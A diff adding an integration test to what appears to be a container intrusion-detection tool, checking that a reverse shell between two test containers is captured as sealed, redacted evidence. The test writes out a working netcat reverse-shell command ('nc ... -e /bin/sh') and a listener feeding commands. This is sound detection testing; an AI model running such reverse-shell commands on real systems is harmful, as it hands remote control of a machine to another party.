@@ -269,6 +269,39 @@ def test_it_tells_what_still_runs_and_what_went_out(central, sensor, docker, nam
     assert incident(central, i["id"])["weighed"]["stages"] >= 4
 
 
+def streams(central, number):
+    answer = central.root().get("/api/v1/evidence?" + urllib.parse.urlencode({"limit": 100, "incident": number, "kind": "stream"}))
+    assert answer.status == 200, answer
+    return answer.json["evidence"]
+
+
+def test_what_went_over_a_reverse_shell_is_sealed_both_ways(central, sensor, docker, name):
+    """From its first byte on, since it was made after a first finding; secrets are taken out, and nothing of what else the container says to others is there."""
+    with box(docker, name, project=name) as b, box(docker, f"{name}-far", project=name) as far:
+        b.run("/usr/sbin/nginx sh 'true; true'")
+        i = wait_incident(central, name)
+        wait_for(lambda: sensor.status()["evidence"]["streams"]["containers"], 10, "the container is suspicious")
+        peer = address_of(docker, far.name)
+        serving = far.start("(sleep 1; echo 'echo it is $((6*7))'; echo 'echo password=hunter2'; sleep 1; echo exit) | nc -l -p 4444 >/tmp/got")
+        b.run(f"sleep 0.5; nc -w 4 {peer} 4444 -e /bin/sh; true")
+        far.wait(serving, ok=None)
+        assert "it is 42" in far.run("cat /tmp/got")
+        def one():
+            found = streams(central, i["id"])
+            return len(found) == 1, found
+        kept = wait_for(one, 40, "its first bytes are evidence")[0]
+    text = central.root().get(f"/api/v1/evidence/{kept['id']}/data").body
+    text = text.decode() if isinstance(text, bytes) else text
+    print(text)
+    assert kept["path"] == f"{peer}:4444" and kept["kind"] == "stream", kept
+    assert f"with {peer}:4444, which it opened, ended" in text, text
+    sent, got = text.split("got: ")
+    assert "echo it is $((6*7))" in got and "from 0 on" in got, text
+    assert "it is 42" in sent and re.search(r"sent: \d+ bytes from 0 on", sent), text
+    assert "hunter2" not in text and "password=***" in got, text
+    assert "Evidence" in cli(central, "incident", str(i["id"])) and "stream" in cli(central, "evidence", "list", "--incident", str(i["id"]))
+
+
 def test_a_killed_central_goes_on_with_the_same_incident(central, sensor, docker, name):
     """Last: the central is another process afterwards."""
     with box(docker, name) as b:
